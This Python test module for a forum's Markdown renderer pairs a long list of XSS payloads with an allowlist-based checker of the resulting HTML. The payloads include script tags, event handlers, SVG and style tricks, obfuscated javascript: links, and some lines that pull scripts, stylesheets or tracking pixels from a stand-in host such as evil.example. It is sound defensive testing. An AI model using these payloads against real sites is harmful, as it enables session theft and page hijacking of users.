"""XSS attempts, and a checker of the resulting HTML."""

import re
from html.parser import HTMLParser

_TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li",
    "ol", "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
_ATTRIBUTES = {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start")}
_CLASSES = {
    "code": re.compile(r"language-[\w+#.-]+"),
    "td": re.compile(r"align-(left|center|right)"),
    "th": re.compile(r"align-(left|center|right)"),
}
_SCHEMES = {"http", "https", "mailto"}

VECTORS = (
    # Scripts, and elements that load or run something.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/src=//evil.example>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</p><script>alert(1)</script><p>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=//evil.example><input name=password autofocus onfocus=alert(1)></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<frameset onload=alert(1)>",
    "<portal src=javascript:alert(1)>",
    "<dialog open onclose=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>alert(1)</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x onerror&#61;alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    '<a href="/" onmouseover="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<style onload=alert(1)></style>",
    "<x onpointerenter=alert(1) style=display:block>x",
    "<b onanimationstart=alert(1) style='animation-name:x'>",
    # SVG, MathML, style.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=1&gt;'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">',
    '<div style="width:expression(alert(1))">',
    "<p style=position:fixed;inset:0>x</p>",
    "<p class=admin id=forum name=csrf>x</p>",
    # Markdown links.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#x0000006A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u3000javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:image/svg+xml;base64,PHN2Zz4=)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](d&#97;ta:text/html,x)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://forum.example/x)",
    "[x](filesystem:https://forum.example/x)",
    "[x](intent://x#Intent;scheme=http;end)",
    "[x](ftp://evil.example/x)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](jar:javascript:alert(1)!)",
    '[x](/ "onclick=alert(1)")',
    "[x](/ '\"><img src=x onerror=alert(1)>')",
    '[x](/"onmouseover="alert(1))',
    "[x](/'onmouseover='alert(1))",
    "[x](/><script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](/)",
    "[`<script>alert(1)</script>`](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)>\n\n[x]",
    "[x]: /y '\"><script>alert(1)</script>'\n\n[x]",
    "[a][x]\n\n[x]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:msgbox(1)>",
    "<https://x.example/\"onmouseover='alert(1)'>",
    "<https://x.example/?<script>>",
    "<a@b.example\"onclick=alert(1)>",
    "[[x](javascript:alert(1))](javascript:alert(2))",
    "[x](javascript:alert(1)) [y](https://y.example) [z](javascript:alert(2))",
    # Markdown images.
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/pixel.png)",
    "![x](x\"onerror=\"alert(1))",
    '![" onerror="alert(1)](x)',
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "!\\[x](javascript:alert(1))",
    # Blocks, code and tables around them.
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "``` onclick=alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "`` ` <script>alert(1)</script> ``",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))",
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|:-:|\n| <img onerror=1> | y |",
    "99999999999999. x",
    "1. x\n\n<ol start=\"javascript:alert(1)\"><li>y</ol>",
    "**[x](javascript:alert(1))** ~~<script>alert(1)</script>~~",
    # Malformed tags, comments and encodings.
    "<<script>alert(1)//<</script>",
    "<script <b>alert(1)</script>",
    "<img \"\"\"><script>alert(1)</script>\"\\>",
    "<a href='javascript:alert(1)'>x",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\<script>alert(1)\\</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>".replace("\0", "\ufffd"),
    "<a\u2028href=javascript:alert(1)>x</a>",
    "<IMG SRC=x ONERROR=alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title></head><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<" * 200 + "script>alert(1)</script>",
    "[" * 200 + "x](javascript:alert(1))",
    "> " * 200 + "<script>alert(1)</script>",
)  # fmt: skip


class _Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attributes:
            if name == "class" and tag in _CLASSES:
                if not _CLASSES[tag].fullmatch(value or ""):
                    self.faults.append(f"<{tag} {name}={value!r}>")
            elif (tag, name) not in _ATTRIBUTES:
                self.faults.append(f"<{tag} {name}>")
            if name == "href" and not _harmless(value or ""):
                self.faults.append(f"<{tag} {name}={value!r}>")
            if name == "start" and not re.fullmatch(r"[0-9]{1,9}", value or ""):
                self.faults.append(f"<{tag} {name}={value!r}>")

    def handle_startendtag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attributes)

    def handle_endtag(self, tag: str) -> None:
        if tag not in _TAGS:
            self.faults.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data}]>")


def _harmless(url: str) -> bool:
    # As browsers read it (https://url.spec.whatwg.org/#url-parsing): controls and spaces around
    # it are dropped, so are tabs and line breaks anywhere; a scheme begins with a letter.
    bare = re.sub(r"[\t\n\r]", "", url).lstrip("".join(map(chr, range(33))))
    scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", bare)
    return scheme is None or scheme[1].lower() in _SCHEMES


def faults(html: str) -> list[str]:
    """Return everything in a post's HTML other than plain text, structure or a harmless link."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return judge.faults
